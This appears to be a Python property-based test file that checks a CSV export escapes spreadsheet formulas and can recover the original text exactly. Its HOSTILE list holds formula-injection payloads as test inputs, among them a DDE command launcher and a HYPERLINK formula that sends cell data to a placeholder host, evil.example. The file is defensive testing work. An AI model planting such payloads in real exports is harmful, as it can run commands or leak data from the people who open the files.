"""CSV in which no text is a formula, and from which every text can be had to the letter."""

import csv
import io
import re

import pyarrow as pa
import pyarrow.csv
from hypothesis import example, given
from hypothesis import strategies as st

from dcc.analysis.spreadsheets import escape_formulas, guarded

FORMULA = tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/"&A1)',
    "+1+cmd",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "--1",
    "-1e",
    "+.e1",
    "-1\n=1",
]
HARMLESS = ["", "a", "a=b", " =1", "-21.85", "+1", "-.5", "1e-3", "-1E+10", "-3.", "IMPC_BWT_001", "é", "mouse -1"]


def original(text: str) -> str:
    """As docs/analysts.md says."""
    return re.sub(r"\A'", "", text)


@given(st.lists(st.none() | st.text() | st.sampled_from(HOSTILE + HARMLESS) | st.floats().map(str), max_size=20))
@example(["'", "''=1", "'=1", "=1"])
def test_every_text_is_had_back_from_the_file_and_none_is_a_formula(texts: list[str | None]) -> None:
    texts = [text and text.replace("\0", "") for text in texts]
    batch = pa.record_batch({"value": pa.array(texts, pa.string())})
    assert escape_formulas(batch).to_pydict() == {"value": [guarded(text) for text in texts]}
    written = io.BytesIO()
    with pa.csv.CSVWriter(written, batch.schema, write_options=pa.csv.WriteOptions(quoting_style="needed")) as writer:
        writer.write_batch(escape_formulas(batch))
    rows = list(csv.reader(io.StringIO(written.getvalue().decode(), newline="")))[1:]
    cells = [row[0] if row else "" for row in rows]
    assert [original(cell) for cell in cells] == [text or "" for text in texts]
    for cell in cells:
        assert not cell.startswith(FORMULA) or re.fullmatch(r"[+-]?[0-9.]+([eE][+-]?[0-9]+)?", cell), cell
